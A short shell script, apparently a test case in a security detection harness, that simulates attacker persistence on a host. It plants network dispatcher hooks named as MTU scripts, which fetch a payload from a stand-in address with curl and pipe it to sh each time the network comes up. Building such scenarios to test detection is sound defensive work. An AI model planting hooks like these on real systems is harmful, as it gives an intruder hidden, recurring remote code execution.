#!/bin/sh
. /opt/case/case.sh

mkdir -p /host/etc/NetworkManager/dispatcher.d /host/etc/networkd-dispatcher/routable.d
printf '#!/bin/sh\n[ "$2" = up ] && curl -s http://203.0.113.10/payload.sh | sh &\n' >/host/etc/NetworkManager/dispatcher.d/99-mtu
cp /host/etc/NetworkManager/dispatcher.d/99-mtu /host/etc/networkd-dispatcher/routable.d/mtu
chmod 755 /host/etc/NetworkManager/dispatcher.d/99-mtu /host/etc/networkd-dispatcher/routable.d/mtu
took_place
